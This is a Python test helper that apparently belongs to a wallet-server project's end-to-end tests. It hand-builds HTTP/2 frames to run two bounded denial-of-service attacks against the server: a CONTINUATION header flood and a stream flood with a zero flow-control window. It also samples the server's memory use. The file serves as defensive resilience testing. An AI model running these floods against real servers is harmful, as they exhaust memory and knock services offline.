"""A small raw HTTP/2 toolkit for attacking wallet-server's transport from the
outside: frames built by hand (so that a client can do what no well-behaved
library lets it: a header block that never ends, streams it never reads), over
plaintext or TLS. Header blocks are HPACK-encoded with `hpack` (installed with
`h2`). Used by test_transport_limits.py; also runnable by hand, e.g.

    python3 Tests/e2e/http2_raw.py continuation 127.0.0.1:50051 --pid PID --mb 64
    python3 Tests/e2e/http2_raw.py streams 127.0.0.1:50051 --pid PID --connections 4 --streams 1500

Everything is bounded: byte counts, stream counts and time.
"""
import argparse
import os
import select
import socket
import ssl
import struct
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types (RFC 9113 section 6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY",
               "WINDOW_UPDATE", "CONTINUATION"]
# Flags.
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
# SETTINGS identifiers.
SETTINGS_HEADER_TABLE_SIZE, SETTINGS_ENABLE_PUSH, SETTINGS_MAX_CONCURRENT_STREAMS = 1, 2, 3
SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_FRAME_SIZE, SETTINGS_MAX_HEADER_LIST_SIZE = 4, 5, 6
# Error codes.
NO_ERROR, PROTOCOL_ERROR, ENHANCE_YOUR_CALM, REFUSED_STREAM = 0x0, 0x1, 0xB, 0x7

FRAME_PAYLOAD_MAX = 16384  # the default SETTINGS_MAX_FRAME_SIZE every peer accepts


# --- frames ------------------------------------------------------------------------------

def frame(kind, flags, stream_id, payload=b""):
    assert len(payload) < 1 << 24 and 0 <= stream_id < 1 << 31
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def settings(**values):
    """SETTINGS with {identifier name without SETTINGS_: value}, e.g. INITIAL_WINDOW_SIZE=0."""
    payload = b"".join(struct.pack(">HI", globals()["SETTINGS_" + name], v) for name, v in values.items())
    return frame(SETTINGS, 0, 0, payload)


def settings_ack():
    return frame(SETTINGS, ACK, 0)


def window_update(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def grpc_request_headers(path, authority="localhost", extra=()):
    """The header list of a gRPC call to `path` (e.g. /grpc.health.v1.Health/Check)."""
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers")] + list(extra)


def encode_headers(headers):
    """An HPACK block with no dynamic-table state (a fresh encoder each time, never-indexed literals
    for anything not in the static table), so blocks can be sent in any order on any connection."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode(headers, huffman=False)


def grpc_message(body):
    """A length-prefixed gRPC message (uncompressed)."""
    return b"\x00" + struct.pack(">I", len(body)) + body


def literal_header(name, value):
    """One HPACK 'literal header field without indexing, new name' (RFC 7541 6.2.2) of short strings:
    each copy the server decodes is a new header it must keep or refuse, the dynamic table untouched."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


# --- connections -------------------------------------------------------------------------

def tls_context(ca=None, cert=None, key=None):
    """A client TLS context speaking h2 over ALPN; verifies the server against `ca` when given."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.set_alpn_protocols(["h2"])
    if ca:
        ctx.load_verify_locations(ca)
        ctx.check_hostname = False  # the test servers' certificates name localhost / 127.0.0.1
    else:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    if cert:
        ctx.load_cert_chain(cert, key)
    return ctx


def open_socket(address, tls=None, timeout=10.0):
    """A TCP (optionally TLS, handshake done) socket to HOST:PORT. `tls` is an ssl.SSLContext."""
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls is not None:
        sock = tls.wrap_socket(sock, server_hostname="localhost")
    return sock


class Connection:
    """One client HTTP/2 connection: sends the preface and SETTINGS, reads frames on demand.
    Never reads unless asked, so a test can play a client that does not read."""

    def __init__(self, address, tls=None, initial_window=None, ack_settings=True, timeout=10.0):
        """Preface and SETTINGS out; then, with `ack_settings`, waits for the server's SETTINGS and
        acknowledges them, as every real client does (gRPC core applies its own limits, such as
        MAX_CONCURRENT_STREAMS, only once the client has acknowledged them)."""
        self.sock = open_socket(address, tls=tls, timeout=timeout)
        self.opened_at = time.monotonic()
        self.buffer = b""
        self.closed = False
        self.closed_after = None
        self.next_stream_id = 1
        self.decoder = hpack.Decoder()  # the server's header blocks, decoded in arrival order
        self.server_settings = None   # {identifier: value} of the server's first SETTINGS
        self.early_frames = []        # other frames read while waiting for them
        values = {"ENABLE_PUSH": 0}
        if initial_window is not None:
            values["INITIAL_WINDOW_SIZE"] = initial_window
        self.send(PREFACE + settings(**values))
        if ack_settings:
            deadline = time.monotonic() + timeout
            while self.server_settings is None and not self.closed and time.monotonic() < deadline:
                for f in self.read_frames(timeout=deadline - time.monotonic(), max_frames=1):
                    kind, flags, _, payload = f
                    if kind == SETTINGS and not flags & ACK:
                        self.server_settings = dict(struct.unpack(">HI", payload[j:j + 6])
                                                    for j in range(0, len(payload), 6))
                    else:
                        self.early_frames.append(f)
            if self.server_settings is None:
                raise ConnectionError("no SETTINGS from the server (closed: %s)" % self.closed)
            self.send(settings_ack())

    def send(self, data):
        self.sock.sendall(data)

    def try_send(self, data, timeout):
        """Send `data` unless the peer stops taking bytes for `timeout` seconds or closes.
        Returns 'sent', 'blocked' or 'closed'."""
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
            return "sent"
        except (socket.timeout, ssl.SSLWantWriteError):
            return "blocked"
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            self.closed = True
            return "closed"

    def new_stream_id(self):
        sid = self.next_stream_id
        self.next_stream_id += 2
        return sid

    def read_frames(self, timeout=1.0, max_frames=100000):
        """Frames that arrive within `timeout` seconds (or until the peer closes):
        a list of (type, flags, stream_id, payload)."""
        out = []
        deadline = time.monotonic() + timeout
        while len(out) < max_frames and not self.closed:
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                sid = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                out.append((kind, flags, sid, self.buffer[9:9 + length]))
                self.buffer = self.buffer[9 + length:]
            if len(out) >= max_frames:
                break
            left = deadline - time.monotonic()
            if left <= 0:
                break
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            if not pending:
                readable, _, _ = select.select([self.sock], [], [], left)
                if not readable:
                    break
            try:
                self.sock.settimeout(max(left, 0.01))
                chunk = self.sock.recv(1 << 16)
            except (socket.timeout, ssl.SSLWantReadError):
                continue
            except (ConnectionResetError, ssl.SSLError, OSError):
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buffer += chunk
        return out

    def pump(self, seconds):
        """Read for `seconds` (or until the peer closes) as a well-behaved idle client does:
        answer PINGs, acknowledge SETTINGS. Returns [(seconds since the connection opened, frame)]
        (frames read while connecting first, at time 0); self.closed_after: when the server closed it."""
        started = time.monotonic()
        out = [(0.0, f) for f in self.early_frames]
        while not self.closed:
            left = seconds - (time.monotonic() - started)
            if left <= 0:
                break
            for f in self.read_frames(timeout=left, max_frames=1):
                kind, flags, _, payload = f
                out.append((time.monotonic() - self.opened_at, f))
                if kind == PING and not flags & ACK:
                    self.try_send(frame(PING, ACK, 0, payload), 1.0)
                elif kind == SETTINGS and not flags & ACK:
                    self.try_send(settings_ack(), 1.0)
        if self.closed:
            self.closed_after = time.monotonic() - self.opened_at
        return out

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass
        self.closed = True


def unary_call(conn, path, body=b"", timeout=5.0):
    """One unary gRPC call on an open Connection: (grpc-status, response message bytes or None).
    Decodes every header block read meanwhile (the HPACK table is per connection), answers PINGs."""
    sid = conn.new_stream_id()
    conn.send(frame(HEADERS, END_HEADERS, sid, encode_headers(grpc_request_headers(path)))
              + frame(DATA, END_STREAM, sid, grpc_message(body)))
    data = b""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline and not conn.closed:
        for kind, flags, fsid, payload in conn.read_frames(timeout=deadline - time.monotonic(), max_frames=1):
            if kind == PING and not flags & ACK:
                conn.send(frame(PING, ACK, 0, payload))
            elif kind == HEADERS:
                headers = dict(conn.decoder.decode(strip_padding_and_priority(flags, payload)))
                if fsid == sid and flags & END_STREAM:
                    status = headers.get("grpc-status")
                    message = data[5:] if len(data) >= 5 else None
                    return (int(status) if status is not None else None), message
            elif kind == DATA and fsid == sid:
                data += payload
            elif kind == RST_STREAM and fsid == sid:
                raise ConnectionError("stream %d reset: %r" % (sid, payload))
            elif kind == GOAWAY:
                raise ConnectionError("GOAWAY %r" % (goaway_of([(kind, flags, fsid, payload)]),))
    raise ConnectionError("no answer on stream %d within %.1fs (closed: %s)" % (sid, timeout, conn.closed))


def strip_padding_and_priority(flags, payload):
    """The header block fragment of a HEADERS frame (RFC 9113 6.2: PADDED 0x8, PRIORITY 0x20)."""
    if flags & 0x8:
        pad = payload[0]
        payload = payload[1:len(payload) - pad]
    if flags & 0x20:
        payload = payload[5:]
    assert flags & END_HEADERS, "the server split a header block: not handled here"
    return payload


def goaway_of(frames):
    """(last stream id, error code, debug text) of the first GOAWAY among frames, or None."""
    for kind, _, _, payload in frames:
        if kind == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            return last & 0x7FFFFFFF, code, payload[8:].decode(errors="replace")
    return None


def describe(frames):
    counts = {}
    for kind, _, _, _ in frames:
        name = FRAME_NAMES[kind] if kind < len(FRAME_NAMES) else str(kind)
        counts[name] = counts.get(name, 0) + 1
    return counts


# --- measuring the server ----------------------------------------------------------------

def rss_kb(pid):
    """VmRSS of a process in KiB (from /proc/PID/status)."""
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise AssertionError("no VmRSS for pid %d" % pid)


def open_fds(pid):
    return len(os.listdir("/proc/%d/fd" % pid))


# --- attacks -----------------------------------------------------------------------------

class FloodResult:
    def __init__(self):
        self.bytes_sent = 0
        self.ended = "limit"      # 'limit' (sent everything), 'blocked' (server stopped reading), 'closed'
        self.frames = []          # what the server sent back meanwhile
        self.rss_before_kb = self.rss_peak_kb = self.rss_after_kb = None
        self.seconds = 0.0

    @property
    def rss_growth_kb(self):
        return self.rss_peak_kb - self.rss_before_kb

    def __repr__(self):
        return ("sent %.1f MB in %.1fs, ended %s, server frames %s, GOAWAY %s, RSS %d -> peak %d -> %d KiB (+%d)"
                % (self.bytes_sent / 1e6, self.seconds, self.ended, describe(self.frames),
                   goaway_of(self.frames), self.rss_before_kb, self.rss_peak_kb, self.rss_after_kb,
                   self.rss_growth_kb))


def continuation_flood(address, pid, total_bytes, tls=None, seconds_max=60.0, blocked_seconds=3.0,
                       path="/grpc.health.v1.Health/Check", ack_settings=True):
    """HEADERS without END_HEADERS, then CONTINUATION frames full of small never-indexed literal
    headers (each a new header the server's decoder produces), up to `total_bytes`, `seconds_max`,
    the server closing, or the server not reading for `blocked_seconds`. Samples the server's RSS."""
    result = FloodResult()
    result.rss_before_kb = result.rss_peak_kb = rss_kb(pid)
    started = time.monotonic()
    try:
        conn = Connection(address, tls=tls, ack_settings=ack_settings)
    except (ssl.SSLError, OSError) as e:
        result.ended = "closed (%s)" % e.__class__.__name__
        result.rss_after_kb = rss_kb(pid)
        return result
    result.frames += conn.early_frames
    block = b"".join(literal_header(b"x-flood-%05d" % i, b"v" * 100) for i in range(140))
    assert len(block) <= FRAME_PAYLOAD_MAX
    first = frame(HEADERS, 0, 1, encode_headers(grpc_request_headers(path)))
    continuation = frame(CONTINUATION, 0, 1, block)
    batch = continuation * 16  # ~250 KB per send
    state = conn.try_send(first, blocked_seconds)
    result.bytes_sent += len(first) if state == "sent" else 0
    sample_at = 0
    while state == "sent" and result.bytes_sent < total_bytes and time.monotonic() - started < seconds_max:
        state = conn.try_send(batch, blocked_seconds)
        if state == "sent":
            result.bytes_sent += len(batch)
        if result.bytes_sent >= sample_at:
            result.rss_peak_kb = max(result.rss_peak_kb, rss_kb(pid))
            sample_at += 4 << 20
            result.frames += conn.read_frames(timeout=0)
    result.ended = {"sent": "limit"}.get(state, state)
    result.seconds = time.monotonic() - started
    time.sleep(0.5)  # let the server finish what it buffered
    result.rss_peak_kb = max(result.rss_peak_kb, rss_kb(pid))
    result.frames += conn.read_frames(timeout=1.0)
    result.rss_after_kb = rss_kb(pid)
    conn.close()
    return result


class StreamFloodResult:
    def __init__(self):
        self.streams_attempted = 0
        self.streams_sent = 0
        self.send_blocked = 0      # sends the server did not take within 2 s
        self.closed_connections = 0  # connections the server closed during the flood
        self.answered = 0          # streams whose response HEADERS could still be read afterwards
        self.refused_rst = 0       # RST_STREAM REFUSED_STREAM
        self.refused_unavailable = 0  # answered at once with grpc-status UNAVAILABLE and no message
        self.goaways = []
        self.advertised_max_streams = None
        self.rss_before_kb = self.rss_peak_kb = None
        self.seconds = 0.0
        self.hold_seconds = 0.0

    @property
    def not_served(self):
        """Streams of the attack the server did not serve: refused (RST_STREAM, or a
        trailers-only UNAVAILABLE), dropped with their connection, or never sent because the server
        had closed it."""
        return self.streams_attempted - self.answered + self.refused_unavailable

    @property
    def rss_growth_kb(self):
        return self.rss_peak_kb - self.rss_before_kb

    def __repr__(self):
        return ("%d streams attempted, %d sent in %.1fs (%d sends blocked), server advertised "
                "MAX_CONCURRENT_STREAMS %s, closed %d connections; read afterwards: %d answered (%d of them refused "
                "UNAVAILABLE), %d RST "
                "REFUSED_STREAM, GOAWAYs %s; not served %d; RSS %d -> peak %d KiB (+%d) within %.1fs of holding"
                % (self.streams_attempted, self.streams_sent, self.seconds, self.send_blocked,
                   self.advertised_max_streams, self.closed_connections, self.answered, self.refused_unavailable,
                   self.refused_rst,
                   self.goaways, self.not_served, self.rss_before_kb, self.rss_peak_kb, self.rss_growth_kb,
                   self.hold_seconds))


def stream_flood(address, pid, connections, streams_per_connection, request_headers, request_body,
                 tls=None, hold_seconds=3.0, seconds_max=60.0, ack_settings=True, settle_seconds_max=30.0):
    """Open `streams_per_connection` streams on each of `connections` connections, each a full
    request (HEADERS + DATA with END_STREAM), while never reading a byte and granting a flow-control
    window of 0: the server's answers pile up in its memory unless it refuses streams past its limit.
    Holds the streams open `hold_seconds` sampling RSS, then reads what the server sent."""
    result = StreamFloodResult()
    result.rss_before_kb = result.rss_peak_kb = rss_kb(pid)
    started = time.monotonic()
    conns = [Connection(address, tls=tls, initial_window=0, ack_settings=ack_settings)
             for _ in range(connections)]
    block = encode_headers(request_headers)
    data = grpc_message(request_body)
    try:
        for i in range(streams_per_connection):
            for conn in conns:
                result.streams_attempted += 1
                if conn.closed:
                    continue
                sid = conn.new_stream_id()
                state = conn.try_send(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, data),
                                      timeout=2.0)
                if state == "sent":
                    result.streams_sent += 1
                elif state == "blocked":
                    result.send_blocked += 1
            if i % 100 == 99:
                result.rss_peak_kb = max(result.rss_peak_kb, rss_kb(pid))
            if time.monotonic() - started > seconds_max:
                break
        result.seconds = time.monotonic() - started
        # Hold at least hold_seconds, then until RSS has stopped growing (by 1 MB in 2 s) or
        # settle_seconds_max: the server may still be producing answers nobody reads.
        hold_started = time.monotonic()
        samples = []
        while True:
            now = time.monotonic()
            samples.append((now, rss_kb(pid)))
            result.rss_peak_kb = max(result.rss_peak_kb, samples[-1][1])
            if now - hold_started >= settle_seconds_max:
                break
            if now - hold_started >= hold_seconds:
                two_seconds_ago = [kb for t, kb in samples if t <= now - 2.0]
                if two_seconds_ago and samples[-1][1] - two_seconds_ago[-1] < 1024:
                    break
            time.sleep(0.25)
        result.hold_seconds = time.monotonic() - hold_started
        for conn in conns:
            if conn.server_settings is not None:
                result.advertised_max_streams = conn.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS)
            frames = conn.early_frames + conn.read_frames(timeout=2.0)
            result.closed_connections += conn.closed
            result.answered += len({sid for kind, _, sid, _ in frames if kind == HEADERS})
            # Header blocks decoded in arrival order (HPACK state is per connection): a
            # trailers-only answer (END_STREAM on the first HEADERS, no DATA) with grpc-status 14.
            with_data = {sid for kind, _, sid, _ in frames if kind == DATA}
            for kind, flags, sid, payload in frames:
                if kind != HEADERS:
                    continue
                try:
                    headers = dict(conn.decoder.decode(strip_padding_and_priority(flags, payload)))
                except Exception:  # a block cut off by the end of the read: stop decoding
                    break
                if flags & END_STREAM and sid not in with_data and headers.get("grpc-status") == "14":
                    result.refused_unavailable += 1
            result.refused_rst += sum(1 for kind, _, _, payload in frames
                                      if kind == RST_STREAM and struct.unpack(">I", payload)[0] == REFUSED_STREAM)
            away = goaway_of(frames)
            if away is not None:
                result.goaways.append(away)
    finally:
        for conn in conns:
            conn.close()
    return result


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = parser.add_subparsers(dest="attack", required=True)
    c = sub.add_parser("continuation")
    c.add_argument("address")
    c.add_argument("--pid", type=int, required=True)
    c.add_argument("--mb", type=int, default=64)
    s = sub.add_parser("streams")
    s.add_argument("address")
    s.add_argument("--pid", type=int, required=True)
    s.add_argument("--connections", type=int, default=4)
    s.add_argument("--streams", type=int, default=1500)
    s.add_argument("--no-ack", action="store_true", help="never acknowledge the server's SETTINGS")
    for p in (c, s):
        p.add_argument("--ca")
        p.add_argument("--cert")
        p.add_argument("--key")
        p.add_argument("--tls", action="store_true", help="TLS without verifying the server")
    args = parser.parse_args()
    tls = tls_context(args.ca, args.cert, args.key) if (args.tls or args.ca) else None
    if args.attack == "continuation":
        print(continuation_flood(args.address, args.pid, args.mb << 20, tls=tls))
    else:
        print(stream_flood(args.address, args.pid, args.connections, args.streams,
                           grpc_request_headers("/grpc.health.v1.Health/Check"), b"", tls=tls,
                           ack_settings=not args.no_ack))


if __name__ == "__main__":
    main()
